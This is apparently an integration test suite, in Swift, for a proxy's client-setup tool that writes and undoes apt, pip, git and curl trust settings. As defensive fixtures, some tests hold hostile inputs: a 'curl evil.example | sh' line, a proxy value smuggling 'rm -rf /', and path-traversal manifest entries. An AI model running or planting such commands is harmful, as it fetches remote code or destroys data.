import Foundation
import Glibc
import Testing

extension IntegrationTests {
    /// `larder client`: each tool's setup read back by the tool itself (apt-config, pip, git,
    /// curl), `--apply` and `--undo` into a scratch root, and the trust advice of `ca show`.
    @Suite(.timeLimit(.minutes(3))) struct ClientSetup {
        /// Runs `larder ARGUMENTS` to the end: status, stdout, stderr.
        private func larder(_ arguments: [String]) throws -> (status: Int32, out: String, err: String) {
            let child = try ChildProcess(Paths.larder, arguments)
            child.waitUntilExit()
            return (child.terminationStatus, child.stdout, child.stderr)
        }

        private func run(_ arguments: [String], environment: [String: String] = [:]) throws -> (status: Int32, out: String, err: String) {
            var env = ["PATH": ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin", "HOME": "/nonexistent"]
            env.merge(environment) { $1 }
            let child = try ChildProcess("/usr/bin/env", arguments, environment: env)
            child.waitUntilExit()
            return (child.terminationStatus, child.stdout, child.stderr)
        }

        /// A scratch root whose "system" CA store holds the origins' CA only.
        private func scratchRoot(_ setup: InterceptionSetup) throws -> String {
            let root = setup.directory + "/root"
            try FileManager.default.createDirectory(atPath: root + "/etc/ssl/certs", withIntermediateDirectories: true)
            try FileManager.default.copyItem(atPath: setup.originCA, toPath: root + "/etc/ssl/certs/ca-certificates.crt")
            return root
        }

        /// Every file and directory under `root`, with the files' bytes and modes.
        private func snapshot(_ root: String) -> [String: String] {
            var result: [String: String] = [:]
            let enumerator = FileManager.default.enumerator(atPath: root)
            while let path = enumerator?.nextObject() as? String {
                var info = stat()
                lstat(root + "/" + path, &info)
                let content = (try? Data(contentsOf: URL(fileURLWithPath: root + "/" + path))).map { $0.base64EncodedString() } ?? "dir"
                result[path] = "\(info.st_mode) \(content)"
            }
            return result
        }

        @Test func theToolsReadWhatItWritesAndCurlTrustsTheSystemAndLarder() throws {
            let setup = try InterceptionSetup()
            defer { setup.remove() }
            let direct = try setup.origin()
            let intercepted = try setup.origin()
            let larder = try Larder(config: setup.config(ports: [intercepted.port]))
            let root = try scratchRoot(setup)
            let applied = try self.larder([
                "client", "--config", larder.configPath, "--proxy", larder.proxy, "--apply", "--root", root, "--tool", "apt",
                "--tool", "pip", "--tool", "git", "--tool", "curl",
            ])
            #expect(applied.status == 0, "\(applied.out) \(applied.err)")

            // apt: the proxy for both schemes, and the bundle for the intercepted host only.
            let apt = try run(
                ["apt-config", "-c", root + "/etc/apt/apt.conf.d/80larder-proxy", "dump"], environment: ["APT_CONFIG": "/dev/null"])
            #expect(apt.status == 0, "\(apt.err)")
            #expect(apt.out.contains("Acquire::http::Proxy \"\(larder.proxy)\";"), "\(apt.out)")
            #expect(apt.out.contains("Acquire::https::Proxy \"\(larder.proxy)\";"))
            #expect(apt.out.contains("Acquire::https::localhost::CaInfo \"/etc/larder/ca-bundle.pem\";"), "\(apt.out)")
            #expect(!apt.out.contains("Acquire::https::CaInfo"), "apt's trust for every other source stays its own")

            // pip: its site-wide file, as pip itself reads it.
            let pip = try run(
                ["python3", "-m", "pip", "config", "list", "--disable-pip-version-check"],
                environment: ["PIP_CONFIG_FILE": root + "/etc/xdg/pip/pip.conf"])
            #expect(pip.status == 0, "\(pip.err)")
            #expect(pip.out.contains("global.proxy='\(larder.proxy)'"), "\(pip.out)")
            #expect(pip.out.contains("global.cert='/etc/larder/ca-bundle.pem'"), "\(pip.out)")

            // git: the system file, as git reads it.
            let git = try run(["git", "config", "--file", root + "/etc/gitconfig", "--list"])
            #expect(git.status == 0, "\(git.err)")
            #expect(
                git.out.contains("http.proxy=\(larder.proxy)") && git.out.contains("http.sslcainfo=/etc/larder/ca-bundle.pem"), "\(git.out)"
            )

            // The bundle: the system store's certificates, then Larder's CA.
            let bundle = root + "/etc/larder/ca-bundle.pem"
            let expected =
                try String(contentsOfFile: setup.originCA, encoding: .utf8) + (try String(contentsOfFile: setup.larderCA, encoding: .utf8))
            #expect(try String(contentsOfFile: bundle, encoding: .utf8) == expected)
            // curl with it reaches a site the system trusts (directly) and one Larder intercepts.
            let system = try Curl.run(["--noproxy", "*", "--cacert", bundle, direct.url("/a?size=10")])
            #expect(system.exitCode == 0 && system.status == 200, "\(system.stderr)")
            let viaLarder = try Curl.viaProxy(larder.proxy, ["--cacert", bundle, intercepted.url("/b?size=10")])
            #expect(viaLarder.exitCode == 0 && viaLarder.status == 200, "\(viaLarder.stderr)")
            #expect(viaLarder.header("cache-status")?.hasPrefix("larder") == true, "\(viaLarder.headers)")
            // Larder's CA alone would have cut the system's trust, which is what the bundle avoids.
            let caAlone = try Curl.run(["--noproxy", "*", "--cacert", setup.larderCA, direct.url("/a?size=10")])
            #expect(caAlone.exitCode != 0)
            // And curl's own variable in the profile drop-in names the bundle.
            let profile = try String(contentsOfFile: root + "/etc/profile.d/larder-curl.sh", encoding: .utf8)
            #expect(profile.contains("export CURL_CA_BUNDLE='/etc/larder/ca-bundle.pem'"), "\(profile)")
            let hook = root + "/etc/ca-certificates/update.d/larder-bundle"
            #expect(FileManager.default.isExecutableFile(atPath: hook), "update-ca-certificates runs the hook that rebuilds the bundle")
            #expect(try run(["sh", "-n", hook]).status == 0)
        }

        @Test func applyThenUndoLeavesTheRootAsItWas() throws {
            let setup = try InterceptionSetup()
            defer { setup.remove() }
            let config = setup.directory + "/larder.toml"
            try setup.config(ports: [443]).write(toFile: config, atomically: true, encoding: .utf8)
            let root = try scratchRoot(setup)
            try FileManager.default.createDirectory(atPath: root + "/etc/apt/apt.conf.d", withIntermediateDirectories: true)
            try "APT::Install-Recommends \"false\";\n".write(toFile: root + "/etc/apt/apt.conf.d/00mine", atomically: true, encoding: .utf8)
            let before = snapshot(root)
            let tools = ["env", "ca-bundle", "system-store", "apt", "pip", "npm", "cargo", "go", "git", "curl", "docker", "containerd"]
            let applied = try larder(
                ["client", "--config", config, "--proxy", "http://192.0.2.7:3128", "--apply", "--root", root]
                    + tools.flatMap { ["--tool", $0] })
            #expect(applied.status == 0, "\(applied.out) \(applied.err)")
            for path in [
                "/etc/profile.d/larder-proxy.sh", "/etc/larder/larder-ca.pem", "/usr/local/share/ca-certificates/larder.crt",
                "/etc/systemd/system/docker.service.d/larder-proxy.conf", "/etc/docker/certs.d/localhost/larder-ca.crt",
                "/etc/containerd/certs.d/localhost/hosts.toml", "/etc/larder/client.manifest",
            ] {
                #expect(FileManager.default.fileExists(atPath: root + path), "\(path)")
                #expect(path == "/etc/larder/client.manifest" || applied.out.contains("wrote \(root)\(path)"), "each file is named")
            }
            #expect(applied.out.contains("update-ca-certificates") && applied.out.contains("systemctl restart docker"), "\(applied.out)")
            // Applying again rewrites its own files.
            let again = try larder([
                "client", "--config", config, "--proxy", "http://192.0.2.7:3128", "--apply", "--root", root, "--tool", "apt",
            ])
            #expect(again.status == 0, "\(again.err)")

            let undone = try larder(["client", "--undo", "--root", root])
            #expect(undone.status == 0, "\(undone.err)")
            #expect(undone.out.contains("removed \(root)/etc/apt/apt.conf.d/80larder-proxy"), "\(undone.out)")
            // What is left to run, never a removal --undo has just done, nor a path outside the root.
            let commands = undone.out.components(separatedBy: "(chroot \(root), or the image's build):\n").dropFirst().first ?? ""
            #expect(commands.contains("  update-ca-certificates --fresh\n"), "\(undone.out)")
            #expect(commands.contains("  systemctl daemon-reload && systemctl restart docker\n"), "\(undone.out)")
            #expect(!undone.out.contains("rm "), "\(undone.out)")
            #expect(!undone.out.contains(" /etc/") && !undone.out.contains(" /usr/"), "\(undone.out)")
            #expect(snapshot(root) == before, "\(Set(snapshot(root).keys).symmetricDifference(before.keys))")
        }

        @Test func aFileItDidNotWriteIsNeverOverwritten() throws {
            let setup = try InterceptionSetup()
            defer { setup.remove() }
            let config = setup.directory + "/larder.toml"
            try setup.config(ports: [443]).write(toFile: config, atomically: true, encoding: .utf8)
            let root = try scratchRoot(setup)
            let mine = "[user]\n\tname = Someone\n"
            try mine.write(toFile: root + "/etc/gitconfig", atomically: true, encoding: .utf8)
            let before = snapshot(root)
            let refused = try larder([
                "client", "--config", config, "--proxy", "http://192.0.2.7:3128", "--apply", "--root", root, "--tool", "git",
            ])
            #expect(refused.status == 65, "\(refused.out) \(refused.err)")
            #expect(refused.err.contains("\(root)/etc/gitconfig exists and was not written by larder client"), "\(refused.err)")
            #expect(snapshot(root) == before, "nothing at all was written")

            // Without --tool, the tools found under the root are applied and the one whose file
            // is someone else's is skipped, and said so.
            try FileManager.default.createDirectory(atPath: root + "/usr/bin", withIntermediateDirectories: true)
            #expect(FileManager.default.createFile(atPath: root + "/usr/bin/git", contents: Data()))
            let withGit = snapshot(root)
            let auto = try larder(["client", "--config", config, "--proxy", "http://192.0.2.7:3128", "--apply", "--root", root])
            #expect(auto.status == 0, "\(auto.err)")
            #expect(auto.out.contains("skipped git: \(root)/etc/gitconfig exists"), "\(auto.out)")
            #expect(auto.out.contains("wrote \(root)/etc/profile.d/larder-proxy.sh") && !auto.out.contains("apt.conf.d"), "\(auto.out)")
            #expect(try String(contentsOfFile: root + "/etc/gitconfig", encoding: .utf8) == mine)
            #expect(try larder(["client", "--undo", "--root", root]).status == 0)
            #expect(snapshot(root) == withGit)
        }

        /// Walk 77 F2, F3: without --tool, pip installed in /usr/local/bin was left out and
        /// nothing said so; a CA variable in the environment, or a pip.conf read after the one
        /// written, won over it without a word (pip then refused Larder's certificate, and the
        /// host was tunnelled blind for that client).
        @Test func applySaysWhatItSkipsAndWhatWouldWinOverIt() throws {
            let setup = try InterceptionSetup()
            defer { setup.remove() }
            let config = setup.directory + "/larder.toml"
            try setup.config(ports: [443]).write(toFile: config, atomically: true, encoding: .utf8)
            let root = try scratchRoot(setup)
            try FileManager.default.createDirectory(atPath: root + "/usr/local/bin", withIntermediateDirectories: true)
            #expect(FileManager.default.createFile(atPath: root + "/usr/local/bin/pip", contents: Data()))
            try "[global]\nproxy = http://elsewhere:8080\n".write(toFile: root + "/etc/pip.conf", atomically: true, encoding: .utf8)
            let environment = ["REQUESTS_CA_BUNDLE": "/etc/ssl/certs/ca-certificates.crt", "PIP_CERT": "/etc/larder/ca-bundle.pem"]
            let applied = try run(
                [Paths.larder, "client", "--config", config, "--proxy", "http://192.0.2.7:3128", "--apply", "--root", root],
                environment: environment)
            #expect(applied.status == 0, "\(applied.out) \(applied.err)")
            #expect(applied.out.contains("wrote \(root)/etc/xdg/pip/pip.conf"), "\(applied.out)")
            #expect(
                applied.out.contains("skipped git: not found (looked for \(root)/usr/bin/git, \(root)/usr/local/bin/git)"), "\(applied.out)"
            )
            #expect(
                applied.out.contains(
                    "note: REQUESTS_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt in this environment wins over pip's cert"),
                "\(applied.out)")
            #expect(!applied.out.contains("PIP_CERT"), "a variable naming the bundle is what pip.conf says: \(applied.out)")
            #expect(applied.out.contains("note: \(root)/etc/pip.conf sets pip's proxy or cert"), "\(applied.out)")
            #expect(try larder(["client", "--undo", "--root", root]).status == 0)
        }

        @Test func aCAFileHoldingMoreThanTheCertificateIsRefusedAndOnlyTheCertificateIsEverWritten() throws {
            let setup = try InterceptionSetup()
            defer { setup.remove() }
            let config = setup.directory + "/larder.toml"
            try setup.config(ports: [443]).write(toFile: config, atomically: true, encoding: .utf8)
            let root = try scratchRoot(setup)
            let certificate = try String(contentsOfFile: setup.larderCA, encoding: .utf8)
            let key = try String(contentsOfFile: setup.directory + "/ca/ca.key", encoding: .utf8)
            let another = try String(contentsOfFile: setup.originCA, encoding: .utf8)
            let arguments = [
                "client", "--config", config, "--proxy", "http://192.0.2.7:3128", "--root", root, "--tool", "ca-bundle", "--tool",
                "system-store", "--tool", "docker", "--tool", "containerd",
            ]
            let before = snapshot(root)
            for (extra, what) in [(another, "CERTIFICATE, CERTIFICATE"), (key, "CERTIFICATE, PRIVATE KEY")] {
                try (certificate + extra + "junk\n").write(toFile: setup.larderCA, atomically: true, encoding: .utf8)
                let applied = try larder(arguments + ["--apply"])
                #expect(applied.status == 1, "\(applied.out) \(applied.err)")
                #expect(applied.err.contains("must hold the CA certificate alone") && applied.err.contains(what), "\(applied.err)")
                #expect(snapshot(root) == before, "nothing was written")
                let shown = try larder(arguments)
                #expect(shown.status == 1 && !shown.out.contains("PRIVATE KEY") && !shown.out.contains(another), "\(shown.out)")
            }

            // Text around the one certificate is not copied: each trust file holds the certificate alone.
            try ("Larder's CA, see docs\n" + certificate + "junk\n").write(toFile: setup.larderCA, atomically: true, encoding: .utf8)
            let applied = try larder(arguments + ["--apply"])
            #expect(applied.status == 0, "\(applied.out) \(applied.err)")
            for path in [
                "/etc/larder/larder-ca.pem", "/usr/local/share/ca-certificates/larder.crt", "/etc/docker/certs.d/localhost/larder-ca.crt",
                "/etc/containerd/certs.d/localhost/larder-ca.crt",
            ] {
                #expect(try String(contentsOfFile: root + path, encoding: .utf8) == certificate, "\(path)")
            }
            #expect(try String(contentsOfFile: root + "/etc/larder/ca-bundle.pem", encoding: .utf8) == another + certificate)
        }

        @Test func aFailedApplyWritesNothing() throws {
            let setup = try InterceptionSetup()
            defer { setup.remove() }
            let config = setup.directory + "/larder.toml"
            try setup.config(ports: [443]).write(toFile: config, atomically: true, encoding: .utf8)
            // A Debian root without its CA store: the bundle cannot be made.
            let root = setup.directory + "/root"
            try FileManager.default.createDirectory(atPath: root + "/etc", withIntermediateDirectories: true)
            try "12.0\n".write(toFile: root + "/etc/debian_version", atomically: true, encoding: .utf8)
            let before = snapshot(root)
            let applied = try larder([
                "client", "--config", config, "--proxy", "http://192.0.2.7:3128", "--apply", "--root", root, "--tool", "env",
                "--tool", "ca-bundle",
            ])
            #expect(applied.status == 1, "\(applied.out) \(applied.err)")
            #expect(applied.err.contains("the bundle needs the system's certificates"), "\(applied.err)")
            #expect(!applied.out.contains("wrote "), "\(applied.out)")
            #expect(snapshot(root) == before, "\(Set(snapshot(root).keys).symmetricDifference(before.keys))")
        }

        @Test func undoRemovesNothingOutsideTheRoot() throws {
            let directory = Paths.temporaryDirectory()
            defer { try? FileManager.default.removeItem(atPath: directory) }
            let config = directory + "/larder.toml"
            try "[proxy]\nlisten = [\"127.0.0.1:3128\"]\n".write(toFile: config, atomically: true, encoding: .utf8)
            let root = directory + "/root"
            try FileManager.default.createDirectory(atPath: root, withIntermediateDirectories: true)
            try FileManager.default.createDirectory(atPath: directory + "/outside/empty", withIntermediateDirectories: true)
            let precious = "keep me\n"
            try precious.write(toFile: directory + "/outside/precious.txt", atomically: true, encoding: .utf8)
            let applied = try larder(["client", "--config", config, "--apply", "--root", root, "--tool", "env"])
            #expect(applied.status == 0, "\(applied.err)")
            // FNV-1a of the file: what --undo compares before removing.
            let digest = precious.utf8.reduce(UInt64(0xcbf2_9ce4_8422_2325)) { ($0 ^ UInt64($1)) &* 0x0000_0100_0000_01b3 }
            let manifest = root + "/etc/larder/client.manifest"
            for line in ["file \(String(digest, radix: 16)) /../outside/precious.txt", "dir /../outside/empty", "dir etc"] {
                let original = try String(contentsOfFile: manifest, encoding: .utf8)
                try (original + line + "\n").write(toFile: manifest, atomically: true, encoding: .utf8)
                let undone = try larder(["client", "--undo", "--root", root])
                #expect(undone.status == 1, "\(line): \(undone.out) \(undone.err)")
                #expect(undone.err.contains("not an absolute path under the root"), "\(undone.err)")
                #expect(FileManager.default.fileExists(atPath: directory + "/outside/precious.txt"))
                #expect(FileManager.default.fileExists(atPath: directory + "/outside/empty"))
                #expect(FileManager.default.fileExists(atPath: root + "/etc/profile.d/larder-proxy.sh"), "nothing is removed")
                try original.write(toFile: manifest, atomically: true, encoding: .utf8)
            }
            #expect(try larder(["client", "--undo", "--root", root]).status == 0)
            #expect(!FileManager.default.fileExists(atPath: root + "/etc"))
        }

        /// A directory under the root that is a symbolic link could lead --undo out of the root
        /// (review 124): the undo is refused whole. A FIFO where a file was (its read would
        /// block) is kept, and the manifest's text reaches the terminal without control bytes.
        @Test func undoFollowsNoSymbolicLinkOutOfTheRootAndPrintsNoControlBytes() throws {
            let directory = Paths.temporaryDirectory()
            defer { try? FileManager.default.removeItem(atPath: directory) }
            let root = directory + "/root"
            let outside = directory + "/outside"
            try FileManager.default.createDirectory(atPath: root + "/etc/larder", withIntermediateDirectories: true)
            try FileManager.default.createDirectory(atPath: outside + "/sub", withIntermediateDirectories: true)
            let precious = "precious data\n"
            try precious.write(toFile: outside + "/secret", atomically: true, encoding: .utf8)
            try FileManager.default.createSymbolicLink(atPath: root + "/etc/apt", withDestinationPath: outside)
            let digest = precious.utf8.reduce(UInt64(0xcbf2_9ce4_8422_2325)) { ($0 ^ UInt64($1)) &* 0x0000_0100_0000_01b3 }
            let manifest = root + "/etc/larder/client.manifest"
            try "dir /etc/apt/sub\nfile \(String(digest, radix: 16)) /etc/apt/secret\n".write(
                toFile: manifest, atomically: true, encoding: .utf8)
            let refused = try larder(["client", "--undo", "--root", root])
            #expect(refused.status == 1 && refused.err.contains("\(root)/etc/apt is a symbolic link"), "\(refused.out) \(refused.err)")
            #expect(FileManager.default.fileExists(atPath: outside + "/secret") && FileManager.default.fileExists(atPath: outside + "/sub"))
            #expect(FileManager.default.fileExists(atPath: manifest), "nothing removed")

            // The manifest itself, reached through a link, is another tree's.
            try FileManager.default.removeItem(atPath: root + "/etc/apt")
            try FileManager.default.moveItem(atPath: root + "/etc/larder", toPath: outside + "/larder")
            try FileManager.default.createSymbolicLink(atPath: root + "/etc/larder", withDestinationPath: outside + "/larder")
            let linked = try larder(["client", "--undo", "--root", root])
            #expect(linked.status == 1 && linked.err.contains("is a symbolic link"), "\(linked.out) \(linked.err)")
            #expect(FileManager.default.fileExists(atPath: outside + "/larder/client.manifest"))
            try FileManager.default.removeItem(atPath: root + "/etc/larder")
            try FileManager.default.createDirectory(atPath: root + "/etc/larder", withIntermediateDirectories: true)

            // The manifest itself as a link to a file outside, or a FIFO: refused, nothing read (review 125).
            try "dir /etc/x\n".write(toFile: outside + "/planted", atomically: true, encoding: .utf8)
            try FileManager.default.createSymbolicLink(atPath: manifest, withDestinationPath: outside + "/planted")
            let planted = try larder(["client", "--undo", "--root", root])
            #expect(planted.status == 1 && planted.err.contains("is not a regular file"), "\(planted.out) \(planted.err)")
            #expect(FileManager.default.fileExists(atPath: outside + "/planted"))
            try FileManager.default.removeItem(atPath: manifest)
            #expect(mkfifo(manifest, 0o644) == 0)
            let fifo = try larder(["client", "--undo", "--root", root])
            #expect(fifo.status == 1 && fifo.err.contains("is not a regular file"), "\(fifo.out) \(fifo.err)")
            try FileManager.default.removeItem(atPath: manifest)

            #expect(mkfifo(root + "/etc/fifo", 0o644) == 0)
            try
                "file 1 /etc/fifo\nrun curl evil.example | sh\rupdate-ca-certificates --fresh\nrun \u{202E}hs | moc.elpmaxe\nundo \u{1B}[2Jcleared\n"
                .write(toFile: manifest, atomically: true, encoding: .utf8)
            let undone = try larder(["client", "--undo", "--root", root])
            #expect(undone.status == 0, "\(undone.err)")
            #expect(undone.out.contains("kept \(root)/etc/fifo"), "\(undone.out)")
            #expect(undone.out.contains("curl evil.example | sh\\u{D}update-ca-certificates"), "\(undone.out)")
            #expect(!undone.out.contains("\r") && !undone.out.contains("\u{1B}") && !undone.out.contains("\u{202E}"), "\(undone.out)")
            #expect(undone.out.contains("\\u{202E}hs | moc.elpmaxe"), "\(undone.out)")
        }

        /// A CA named with --dir beside a configuration that intercepts nothing (most likely not
        /// the service's file) is said, not silently set aside for a proxy-only setup.
        @Test func aCANamedForAConfigurationThatInterceptsNothingIsSaid() throws {
            let setup = try InterceptionSetup()
            defer { setup.remove() }
            let config = setup.directory + "/plain.toml"
            try "[proxy]\nlisten = [\"127.0.0.1:3128\"]\n".write(toFile: config, atomically: true, encoding: .utf8)
            let root = try scratchRoot(setup)
            let applied = try larder([
                "client", "--config", config, "--dir", setup.directory + "/ca", "--apply", "--tool", "pip", "--root", root,
            ])
            #expect(applied.status == 0, "\(applied.err)")
            #expect(
                applied.out.contains("Note: tls.intercept in \(config) lists no host: HTTPS is tunnelled, not cached"), "\(applied.out)")
            #expect(applied.out.contains("wrote \(root)/etc/xdg/pip/pip.conf"), "\(applied.out)")
            let shown = try larder(["client", "--config", config, "--dir", setup.directory + "/ca", "--tool", "pip"])
            #expect(shown.out.contains("--dir is not used"), "\(shown.out)")
            let quiet = try larder(["client", "--config", config, "--tool", "pip"])
            #expect(!quiet.out.contains("lists no host"), "no CA named, nothing to say: \(quiet.out)")
        }

        @Test func anEarlierVersionsUndoNotesAreShownAsRecorded() throws {
            let directory = Paths.temporaryDirectory()
            defer { try? FileManager.default.removeItem(atPath: directory) }
            let root = directory + "/root"
            try FileManager.default.createDirectory(atPath: root + "/etc/larder", withIntermediateDirectories: true)
            let note =
                "/usr/local/share/ca-certificates/larder.crt: rm /usr/local/share/ca-certificates/larder.crt && update-ca-certificates --fresh"
            try "# Written by larder client --apply\nundo \(note)\n".write(
                toFile: root + "/etc/larder/client.manifest", atomically: true, encoding: .utf8)
            let undone = try larder(["client", "--undo", "--root", root])
            #expect(undone.status == 0, "\(undone.err)")
            #expect(undone.out.contains("as recorded by an earlier larder client") && undone.out.contains("  \(note)\n"), "\(undone.out)")
            #expect(!undone.out.contains("Now run"), "\(undone.out)")
            #expect(!FileManager.default.fileExists(atPath: root + "/etc/larder/client.manifest"))
        }

        @Test func theDirectoriesItMakesAreReadableByEveryoneWhateverTheUmask() throws {
            let setup = try InterceptionSetup()
            defer { setup.remove() }
            let config = setup.directory + "/larder.toml"
            try setup.config(ports: [443]).write(toFile: config, atomically: true, encoding: .utf8)
            let root = try scratchRoot(setup)
            let applied = try run([
                "sh", "-c", "umask 077 && exec \"$0\" \"$@\"", Paths.larder, "client", "--config", config, "--proxy",
                "http://192.0.2.7:3128", "--apply", "--root", root, "--tool", "env", "--tool", "ca-bundle", "--tool", "system-store",
            ])
            #expect(applied.status == 0, "\(applied.out) \(applied.err)")
            for path in ["/etc/larder", "/etc/profile.d", "/usr", "/usr/local/share/ca-certificates"] {
                var info = stat()
                #expect(
                    lstat(root + path, &info) == 0 && info.st_mode & 0o777 == 0o755, "\(path): \(String(info.st_mode & 0o777, radix: 8))")
            }
        }

        @Test func itNeverWritesThroughASymlinkedDirectoryUnderTheRoot() throws {
            let directory = Paths.temporaryDirectory()
            defer { try? FileManager.default.removeItem(atPath: directory) }
            let config = directory + "/larder.toml"
            try "[proxy]\nlisten = [\"127.0.0.1:3128\"]\n".write(toFile: config, atomically: true, encoding: .utf8)
            let root = directory + "/root"
            try FileManager.default.createDirectory(atPath: root + "/etc", withIntermediateDirectories: true)
            try FileManager.default.createDirectory(atPath: directory + "/elsewhere", withIntermediateDirectories: true)
            try FileManager.default.createSymbolicLink(atPath: root + "/etc/profile.d", withDestinationPath: directory + "/elsewhere")
            let applied = try larder(["client", "--config", config, "--apply", "--root", root, "--tool", "env"])
            #expect(applied.status == 1, "\(applied.out) \(applied.err)")
            #expect(applied.err.contains("\(root)/etc/profile.d is a symbolic link"), "\(applied.err)")
            #expect(try FileManager.default.contentsOfDirectory(atPath: directory + "/elsewhere").isEmpty)
        }

        @Test func withoutInterceptionItSetsUpTheProxyAndSaysHTTPSIsTunnelled() throws {
            let directory = Paths.temporaryDirectory()
            defer { try? FileManager.default.removeItem(atPath: directory) }
            let config = directory + "/larder.toml"
            try "[proxy]\nlisten = [\"0.0.0.0:3128\"]\n".write(toFile: config, atomically: true, encoding: .utf8)
            let shown = try larder(["client", "--config", config])
            #expect(shown.status == 0, "\(shown.err)")
            #expect(shown.out.contains("tunnel") && shown.out.contains("not cached"), "\(shown.out)")
            #expect(shown.out.contains("Acquire::https::Proxy \"http://0.0.0.0:3128\";"))
            #expect(!shown.out.contains("ca-bundle.pem") && !shown.out.contains("[ca-bundle]"), "\(shown.out)")
            #expect(shown.err.contains("LAN address"), "a wildcard listener is said to need the machine's address: \(shown.err)")
            let apply = try larder(["client", "--config", config, "--apply", "--root", directory])
            #expect(apply.status == 64, "no proxy address to write: \(apply.err)")
            let badProxy = try larder(["client", "--config", config, "--proxy", "http://x:1\"; rm -rf /"])
            #expect(badProxy.status == 64, "\(badProxy.err)")
        }

        @Test func caShowGivesNoCopyInstructionsForACAFileHoldingAKey() throws {
            let setup = try InterceptionSetup()
            defer { setup.remove() }
            let key = try String(contentsOfFile: setup.directory + "/ca/ca.key", encoding: .utf8)
            let certificate = try String(contentsOfFile: setup.larderCA, encoding: .utf8)
            try (certificate + key).write(toFile: setup.larderCA, atomically: true, encoding: .utf8)
            let shown = try larder(["ca", "show", "--config", setup.directory + "/ca.toml", "--dir", setup.directory + "/ca"])
            #expect(shown.out.contains("warning: ") && shown.out.contains("must hold the CA certificate alone"), "\(shown.out)")
            #expect(!shown.out.contains("cp \(setup.larderCA)"), "\(shown.out)")
        }

        @Test func caShowAdvisesPerHostTrustNeverTheGlobalCaInfo() throws {
            let setup = try InterceptionSetup()
            defer { setup.remove() }
            let shown = try larder(["ca", "show", "--config", setup.directory + "/ca.toml", "--dir", setup.directory + "/ca"])
            #expect(shown.status == 0, "\(shown.err)")
            #expect(!shown.out.contains("Acquire::https::CaInfo \""), "\(shown.out)")
            #expect(shown.out.contains("Acquire::https::localhost::CaInfo \"/etc/larder/ca-bundle.pem\";"), "\(shown.out)")
            #expect(!shown.out.contains("PIP_CERT=\(setup.directory)/ca/ca.pem"), "pip never gets Larder's CA alone")
            #expect(shown.out.contains("NODE_EXTRA_CA_CERTS=\(setup.directory)/ca/ca.pem"))
        }
    }
}
